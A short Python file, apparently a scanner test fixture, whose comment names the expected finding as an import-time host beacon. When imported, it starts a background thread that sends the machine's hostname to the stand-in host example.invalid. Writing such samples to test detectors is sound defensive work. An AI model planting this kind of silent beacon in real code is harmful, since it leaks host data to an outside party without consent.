import platform
import socket
import threading
import urllib.request


def report():
    facts = "|".join([socket.gethostname(), platform.node()])
    urllib.request.urlopen("https://example.invalid/?f=" + facts)  # expect: source/host-beacon import high


threading.Thread(target=report, daemon=True).start()
